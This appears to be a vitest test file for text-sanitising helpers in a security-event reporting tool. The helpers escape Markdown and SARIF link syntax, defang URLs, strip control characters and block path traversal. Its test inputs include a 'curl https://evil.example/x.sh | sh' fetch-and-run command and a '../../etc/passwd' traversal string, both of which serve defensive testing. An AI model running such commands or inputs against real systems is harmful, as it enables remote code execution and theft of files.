import { describe, expect, it } from 'vitest';
import {
  cap,
  cleanText,
  defang,
  markdownProse,
  markdownText,
  NEWLINE_MARK,
  pathSegment,
  REPLACEMENT,
  sarifText,
  sentence,
} from './text.js';

describe('cleanText', () => {
  it('replaces controls, bidi overrides, zero-width characters and lone surrogates with a visible mark', () => {
    expect(cleanText('a\u0000b\u001b[31mc\u202Ed\u2066e\u200Bf\uFEFFg\uD800h')).toBe(
      `a${REPLACEMENT}b${REPLACEMENT}[31mc${REPLACEMENT}d${REPLACEMENT}e${REPLACEMENT}f${REPLACEMENT}g${REPLACEMENT}h`,
    );
  });

  it('keeps paired surrogates (emoji) and ordinary non-ASCII text', () => {
    expect(cleanText('ok 😀 Grüße 日本')).toBe('ok 😀 Grüße 日本');
  });

  it('turns line breaks into a visible mark in one-line contexts and tabs into spaces', () => {
    expect(cleanText('a\r\nb\nc\u2028d\te')).toBe(`a${NEWLINE_MARK}b${NEWLINE_MARK}c${NEWLINE_MARK}d e`);
    expect(cleanText('a\r\nb', { keepNewlines: true })).toBe('a\nb');
  });

  it('caps long values with a marker saying how much was cut', () => {
    expect(cleanText('x'.repeat(20), { max: 5 })).toBe('xxxxx… (+15 chars)');
  });

  it('never splits a surrogate pair when capping', () => {
    expect(cap('ab😀cd', 3)).toBe('ab… (+4 chars)');
  });

  it('renders non-strings as JSON', () => {
    expect(cleanText({ a: [1, null] })).toBe('{"a":[1,null]}');
  });
});

describe('sarifText', () => {
  it('escapes the embedded-link syntax so event text cannot forge links to related locations', () => {
    expect(sarifText('[event 1](1)')).toBe('\\[event 1\\](1)');
    expect(sarifText('a\\[b')).toBe('a\\\\\\[b');
  });

  it('escapes Markdown that text-as-Markdown viewers would interpret, leaving snake_case alone', () => {
    expect(sarifText('`x` *y* <b> a|b ~~s~~')).toBe('\\`x\\` \\*y\\* \\<b\\> a\\|b \\~\\~s\\~\\~');
    expect(sarifText('get_jar_data_list.py _em_')).toBe('get_jar_data_list.py \\_em\\_');
  });
});

describe('markdownText / markdownProse', () => {
  it('escapes every Markdown-significant character', () => {
    expect(markdownText('[a](http://x) <b> # *c*')).toBe('\\[a\\]\\(hxxp\\://x\\) \\<b\\> \\# \\*c\\*');
  });

  it('flattens line breaks so a value cannot open a block', () => {
    expect(markdownText('a\n# b')).toBe('a \\# b');
  });

  it('keeps code spans from detector prose and escapes the rest', () => {
    expect(markdownProse('run `sh -c "x"` then [y](z)')).toBe('run `sh -c "x"` then \\[y\\]\\(z\\)');
  });
});

describe('defang', () => {
  it('keeps URLs, www names and e-mail addresses from event data from becoming links', () => {
    expect(defang('curl https://evil.example/x.sh | sh; see www.evil.example or root@evil.example')).toBe(
      'curl hxxps://evil.example/x.sh | sh; see www[.]evil.example or root[@]evil.example',
    );
  });
});

describe('sentence', () => {
  it('adds a period unless the text ends with one', () => {
    expect(sentence('Done')).toBe('Done.');
    expect(sentence('Done.')).toBe('Done.');
    expect(sentence('Escaped \\.')).toBe('Escaped \\..');
  });
});

describe('pathSegment', () => {
  it('keeps host names and removes everything that could traverse or break a URI', () => {
    expect(pathSegment('wazuh1.example.net')).toBe('wazuh1.example.net');
    expect(pathSegment('../../etc/passwd')).toBe('etc-passwd');
    expect(pathSegment('a b:c?d#e')).toBe('a-b-c-d-e');
    expect(pathSegment('..')).toBe('');
  });
});
